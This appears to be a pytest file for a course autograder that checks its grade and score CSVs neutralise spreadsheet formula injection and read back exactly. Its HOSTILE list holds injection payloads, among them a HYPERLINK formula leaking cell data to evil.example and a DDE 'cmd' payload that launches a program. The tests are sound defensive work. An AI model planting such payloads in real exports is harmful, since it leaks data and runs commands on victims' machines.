"""No cell of a CSV the grader writes can run as a spreadsheet formula (OWASP's rule), and the
grader reads its own sheets back exactly. Hostile folder names come from a real submission folder
and the files are read back with Python's csv module."""

from __future__ import annotations

import csv

import pytest

from grader.course import load_course
from grader.csv_safety import csv_cell, read_csv_cell
from grader.gradebook import ManualGrade
from grader.manual import SHEET_COLUMNS, _unimported, _write_sheet, read_sheet
from grader.results import CellResult, write_grades_csv
from grader.submissions import find_submissions
from tests.support.tiny_course import write_tiny_course

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=1+1+cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _rows(path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_hostile_folder_names_never_start_a_formula_in_grades_csv(tmp_path) -> None:
    write_tiny_course(tmp_path)
    assignments = load_course(tmp_path / "solutions")
    submitted = tmp_path / "submitted"
    for name in HOSTILE:
        (submitted / name.replace("/", "_")).mkdir(parents=True)  # a stray student folder
        (submitted / "alice" / name.replace("/", "_")).mkdir(parents=True)  # a stray assignment
    _, strays = find_submissions(submitted, assignments)
    assert len(strays) == 2 * len(HOSTILE)
    # the rows autograde writes for strays (grader.autograde._stray_result)
    results = [
        CellResult(s.student_id, s.assignment, "", "", 0.0, 0.0, s.status, s.detail) for s in strays
    ]
    results.append(CellResult("alice", "tiny", "add", "test_add", 2.0, 2.0, "passed"))
    write_grades_csv(results, tmp_path / "grades.csv")
    rows = _rows(tmp_path / "grades.csv")
    assert len(rows) == len(results)
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(FORMULA_STARTS), (column, value)
    assert {read_csv_cell(r["student_id"]) for r in rows} >= {"alice", "=1+1+cmd|'_C calc'!A0"}
    assert {read_csv_cell(r["assignment"]) for r in rows} >= {"+1+1", "@SUM(A1:A9)"}
    honest = next(r for r in rows if r["status"] == "passed")
    assert honest == {
        "student_id": "alice",
        "assignment": "tiny",
        "notebook": "add",
        "grade_id": "test_add",
        "score": "2",
        "max_score": "2",
        "status": "passed",
    }


@pytest.mark.parametrize("value", [*HOSTILE, "'=already quoted", "'plain", "alice", "-1", "-0.5"])
def test_every_cell_reads_back_as_written(value) -> None:
    cell = csv_cell(value)
    assert not cell.startswith(FORMULA_STARTS) or cell in ("-1", "-0.5")
    assert read_csv_cell(cell) == value


def test_honest_values_are_unchanged() -> None:
    for value in ("alice", "s1234567", "ex1_rnn", "rnn_numpy", "test_rnn_cell", "2", "0.5", "-1"):
        assert csv_cell(value) == value


def test_the_score_sheet_is_safe_and_round_trips(tmp_path) -> None:
    sheet = tmp_path / "scores.csv"
    comments = ["-1 point: the gate is wrong", "=SUM(A1)", "@alice see the rubric", "fine"]
    results = [
        CellResult(f"s{i}", "tiny", "add", "why", 0.0, 2.0, "manually_graded")
        for i in range(len(comments))
    ]
    recorded = {
        (r.student_id, r.assignment, r.notebook, r.grade_id): ManualGrade(1.0, comment)
        for r, comment in zip(results, comments, strict=True)
    }
    _write_sheet(sheet, results, recorded)
    with sheet.open(newline="", encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert cells[: len(SHEET_COLUMNS)] == list(SHEET_COLUMNS)
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
    rows, problems = read_sheet(sheet)
    assert problems == []
    assert [row.comment for row in rows] == comments
    assert _unimported(sheet, recorded) == ""  # nothing looks changed: the sheet may be refreshed
